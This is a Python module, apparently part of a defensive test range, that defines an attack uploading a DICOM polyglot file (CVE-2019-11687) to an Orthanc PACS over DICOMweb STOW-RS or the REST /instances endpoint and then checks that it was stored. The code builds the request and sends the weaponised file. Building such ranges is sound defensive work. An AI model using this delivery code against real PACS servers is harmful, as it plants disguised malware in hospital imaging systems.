"""Polyglot upload over DICOMweb STOW-RS (or the PACS's REST API): the file is kept byte for byte, preamble
included (CVE-2019-11687; T1027.009).

With Orthanc's DICOMweb plugin the polyglot goes in a STOW-RS request (PS3.18 §10.5: multipart/related,
application/dicom parts); without it, Orthanc's ``POST /instances``. The gateway inspects DICOM only and
nothing fronts the web port (nothing stops it); the monitor hands the uploaded file to the shared object checks
(web-upload-malicious).
"""

from __future__ import annotations

import io
import uuid

from radguard.range.attacks.kit import Attack, Context, Outcome
from radguard.range.attacks.polyglot_store import weaponise


def stow_body(part: bytes) -> tuple[bytes, str]:
    """A STOW-RS request body with one application/dicom part, and its Content-Type."""
    boundary = uuid.uuid4().hex
    body = (f"--{boundary}\r\nContent-Type: application/dicom\r\n\r\n".encode() + part
            + f"\r\n--{boundary}--\r\n".encode())
    return body, f'multipart/related; type="application/dicom"; boundary={boundary}'


def run(ctx: Context) -> Outcome:
    ds, uid = weaponise(ctx)
    buf = io.BytesIO()
    ds.save_as(buf, enforce_file_format=True)
    if ctx.dicomweb:
        body, ctype = stow_body(buf.getvalue())
        code, _ = ctx.rest("POST", "/dicom-web/studies", body,
                           headers={"Content-Type": ctype, "Accept": "application/dicom+json"})
        via = "STOW-RS"
    else:
        code, _ = ctx.rest("POST", "/instances", buf.getvalue())
        via = "REST"
    stored = code == 200 and ctx.pacs_has(uid)
    return Outcome(success=stored, impact={"objects_stored": int(stored)},
                   note=f"polyglot stored over {via}" if stored else f"refused over {via} (HTTP {code})")


ATTACK = Attack(
    name="polyglot-rest", title="Polyglot upload over STOW-RS/REST", attack_ids=("T1027.009", "T1105"),
    precondition="network access to the PACS's web port", objective="the polyglot stored in the PACS",
    layers=("monitor",), run=run)
